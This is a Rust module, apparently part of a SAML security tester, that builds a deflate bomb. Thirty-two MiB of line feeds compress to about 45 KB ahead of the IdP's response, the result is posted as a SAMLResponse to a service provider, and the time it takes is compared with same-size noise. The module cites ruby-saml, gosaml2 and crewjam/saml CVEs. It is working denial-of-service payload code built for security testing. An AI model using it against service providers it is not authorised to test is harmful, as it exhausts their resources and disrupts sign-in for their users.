//! Denial of service: small messages that make an SP do far more work than their size, each
//! posted as the `SAMLResponse` of an SP-initiated login and timed against noise of the same
//! size.

use std::io::Write;
use std::sync::OnceLock;

use base64::Engine;

use crate::bytes::Doc;
use crate::check::Burden;
use crate::forge::{Forge, Skip};

/// The line feeds the deflate bomb puts before the response: 32 MiB, three times the largest
/// bound a fixed library sets (crewjam/saml 10 MiB, gosaml2 5 MiB, ruby-saml 250,000 bytes),
/// from about 45 KB of base64.
pub const BOMB_PADDING: usize = 32 << 20;

impl Burden {
    /// Base64 of random letters and digits (no markup for a lenient parser to build elements
    /// from), as long as the posted value: what the SP's refusal of a same-size message
    /// costs, the yardstick for the burden's time.
    pub fn noise(&self) -> String {
        let bytes: Vec<u8> = std::iter::repeat_with(fastrand::alphanumeric)
            .take(self.encoded.len() / 4 * 3)
            .map(|c| c as u8)
            .collect();
        base64::engine::general_purpose::STANDARD.encode(bytes)
    }
}

/// [`BOMB_PADDING`] line feeds, raw-DEFLATE compressed as non-final blocks ending in a sync
/// flush, so any raw-DEFLATE stream may follow them: built once per process.
fn padding_blocks() -> Result<&'static [u8], String> {
    static BLOCKS: OnceLock<Result<Vec<u8>, String>> = OnceLock::new();
    BLOCKS
        .get_or_init(|| {
            let mut deflater =
                flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::best());
            let lines = [b'\n'; 1 << 16];
            for _ in 0..BOMB_PADDING / lines.len() {
                deflater.write_all(&lines).map_err(|e| e.to_string())?;
            }
            // A sync flush: the blocks so far, none final, ending on a byte boundary.
            deflater.flush().map_err(|e| e.to_string())?;
            Ok(std::mem::take(deflater.get_mut()))
        })
        .as_deref()
        .map_err(|e| format!("could not deflate the bomb: {e}"))
}

/// The IdP's own response for this login after [`BOMB_PADDING`] line feeds (its XML
/// declaration dropped, as nothing may come before one), raw-DEFLATE compressed (RFC 1951, as
/// the Redirect binding compresses) and base64-encoded. An SP that inflates whatever it is
/// posted, unbounded, inflates and parses all of it and signs the user in; one that bounds
/// what it inflates is left with blank lines (ruby-saml < 1.18.0 CVE-2025-25293, gosaml2
/// < 0.9.0 CVE-2023-26483; crewjam/saml CVE-2023-28119 inflated Redirect messages unbounded).
pub fn deflate_bomb(f: &Forge) -> Result<Burden, Skip> {
    Doc::parse(f.seed)?;
    let response = match f.seed.trim_start().strip_prefix("<?xml") {
        Some(declared) => declared
            .split_once("?>")
            .map_or(f.seed, |(_, rest)| rest)
            .trim_start(),
        None => f.seed.trim_start(),
    };
    let mut deflated = padding_blocks().map_err(Skip::Failed)?.to_vec();
    let mut deflater = flate2::write::DeflateEncoder::new(deflated, flate2::Compression::best());
    let failed = |e: std::io::Error| Skip::Failed(format!("could not deflate the bomb: {e}"));
    deflater.write_all(response.as_bytes()).map_err(failed)?;
    deflated = deflater.finish().map_err(failed)?;
    Ok(Burden {
        encoded: base64::engine::general_purpose::STANDARD.encode(deflated),
        shown: format!(
            "<!-- raw DEFLATE, then base64: inflates to {} MiB -->\n<!-- {} MiB of line feeds -->\n{response}",
            (BOMB_PADDING + response.len()) >> 20,
            BOMB_PADDING >> 20
        ),
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    const SEED: &str = r#"<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_r"><saml:Issuer xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion">https://sts.windows.net/t/</saml:Issuer></samlp:Response>"#;

    fn forge(seed: &str) -> Forge<'_> {
        Forge {
            seed,
            idp_key: None,
            donors: Default::default(),
            canary: None,
            sp: Default::default(),
        }
    }

    fn inflated(bomb: &Burden) -> Vec<u8> {
        let deflated = base64::engine::general_purpose::STANDARD
            .decode(&bomb.encoded)
            .unwrap();
        saml_protocol::inflate_bounded(&deflated, (BOMB_PADDING + 4096) as u64).unwrap()
    }

    #[test]
    fn the_deflate_bomb_inflates_to_line_feeds_then_the_response_and_fits_ruby_saml_s_limit() {
        let bomb = deflate_bomb(&forge(SEED)).unwrap();
        assert!(bomb.encoded.len() < 60_000, "{}", bomb.encoded.len());
        let inflated = inflated(&bomb);
        assert_eq!(inflated.len(), BOMB_PADDING + SEED.len());
        assert!(inflated[..BOMB_PADDING].iter().all(|b| *b == b'\n'));
        assert_eq!(&inflated[BOMB_PADDING..], SEED.as_bytes());
        assert!(
            bomb.shown.contains("<!-- 32 MiB of line feeds -->"),
            "{}",
            bomb.shown
        );
    }

    #[test]
    fn the_deflate_bomb_drops_the_xml_declaration_nothing_may_precede() {
        let declared = format!("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n{SEED}");
        let bomb = deflate_bomb(&forge(&declared)).unwrap();
        assert_eq!(&inflated(&bomb)[BOMB_PADDING..], SEED.as_bytes());
    }

    #[test]
    fn noise_is_as_long_as_the_burden_and_inflates_to_nothing_like_it() {
        let bomb = deflate_bomb(&forge(SEED)).unwrap();
        let noise = bomb.noise();
        assert_eq!(noise.len(), bomb.encoded.len());
        let bytes = base64::engine::general_purpose::STANDARD
            .decode(&noise)
            .unwrap();
        assert!(bytes.iter().all(u8::is_ascii_alphanumeric));
        let inflated = saml_protocol::inflate_bounded(&bytes, 1 << 20).unwrap_or_default();
        assert!(inflated.len() < 1 << 20);
    }

    #[test]
    fn a_seed_that_is_no_xml_gets_no_bomb() {
        assert!(deflate_bomb(&forge("not xml")).is_err());
    }
}
